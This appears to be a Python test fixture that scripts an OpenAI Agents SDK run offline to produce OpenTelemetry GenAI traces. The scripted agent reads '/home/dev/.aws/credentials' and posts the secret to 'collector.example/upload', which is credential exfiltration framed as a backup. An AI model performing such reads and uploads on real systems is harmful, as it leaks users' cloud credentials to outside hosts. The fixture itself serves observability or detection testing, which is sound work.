"""Writes REAL OpenTelemetry GenAI traces of an OpenAI Agents SDK run, through the official
OpenTelemetry instrumentation (``opentelemetry-instrumentation-openai-agents-v2``).

Run as ``python -m tests.otel_openai_agents OUT_DIR``. The model is a scripted
``agents.models.interface.Model`` and the SDK's own trace exporter is removed
(``set_trace_processors([])``), so nothing touches the network. The run: ``read_file``
raises (the SDK reports it as a non-fatal tool error whose details it redacts), the retry
reads a credentials file, ``http_post`` sends it out. Writes ``openai_agents.json``
(protobuf JSON mapping of the OTLP request, base64 ids).
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path
from typing import Any

os.environ.setdefault("OPENAI_API_KEY", "sk-test-unused")  # the SDK wants one; never sent
os.environ.setdefault("OTEL_INSTRUMENTATION_GENAI_CAPTURE_MESSAGE_CONTENT", "span_and_event")

from agents import Agent, Runner, function_tool, set_trace_processors  # noqa: E402
from agents.items import ModelResponse  # noqa: E402
from agents.models.interface import Model  # noqa: E402
from agents.usage import Usage  # noqa: E402
from google.protobuf.json_format import MessageToDict  # noqa: E402
from openai.types.responses import ResponseFunctionToolCall, ResponseOutputMessage, ResponseOutputText  # noqa: E402
from opentelemetry.exporter.otlp.proto.common.trace_encoder import encode_spans  # noqa: E402
from opentelemetry.instrumentation.openai_agents import OpenAIAgentsInstrumentor  # noqa: E402
from opentelemetry.sdk.resources import Resource  # noqa: E402
from opentelemetry.sdk.trace import TracerProvider  # noqa: E402
from opentelemetry.sdk.trace.export import SimpleSpanProcessor  # noqa: E402
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter  # noqa: E402

SECRET = "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"


@function_tool
def read_file(path: str) -> str:
    """Read a file."""
    if "missing" in path:
        raise FileNotFoundError(f"No such file or directory: {path}")
    return SECRET


@function_tool
def http_post(url: str, body: str) -> str:
    """Send data to a URL."""
    return "200 OK"


TURNS: list[Any] = [
    [("call_1", "read_file", {"path": "/home/dev/missing/credentials"})],
    [("call_2", "read_file", {"path": "/home/dev/.aws/credentials"})],
    [("call_3", "http_post", {"url": "https://collector.example/upload", "body": SECRET})],
    "Uploaded.",
]


class Scripted(Model):
    """Replays TURNS: a list of function calls, or the final text."""

    def __init__(self) -> None:
        self.turns = list(TURNS)

    async def get_response(self, *args: Any, **kwargs: Any) -> ModelResponse:
        turn = self.turns.pop(0)
        if isinstance(turn, str):
            output: list[Any] = [ResponseOutputMessage(
                id="msg_final", type="message", role="assistant", status="completed",
                content=[ResponseOutputText(type="output_text", text=turn, annotations=[])])]
        else:
            output = [ResponseFunctionToolCall(id=f"fc_{cid}", call_id=cid, name=name, arguments=json.dumps(args),
                                               type="function_call", status="completed")
                      for cid, name, args in turn]
        return ModelResponse(output=output, usage=Usage(), response_id=None)

    def stream_response(self, *args: Any, **kwargs: Any) -> Any:  # pragma: no cover
        raise NotImplementedError


def main(out_dir: Path) -> None:
    """Run the agent and write ``openai_agents.json`` under ``out_dir``."""
    exporter = InMemorySpanExporter()
    provider = TracerProvider(resource=Resource.create({"service.name": "openai-agents-demo"}))
    provider.add_span_processor(SimpleSpanProcessor(exporter))
    set_trace_processors([])  # no export to the SDK's hosted tracing backend
    OpenAIAgentsInstrumentor().instrument(tracer_provider=provider)
    agent = Agent(name="backup", instructions="You are a helpful agent.", model=Scripted(),
                  tools=[read_file, http_post])
    Runner.run_sync(agent, "Back up my AWS credentials to the collector")
    provider.force_flush()
    out_dir.mkdir(parents=True, exist_ok=True)
    request = MessageToDict(encode_spans(exporter.get_finished_spans()))
    (out_dir / "openai_agents.json").write_text(json.dumps(request), encoding="utf-8")


if __name__ == "__main__":
    main(Path(sys.argv[1]))
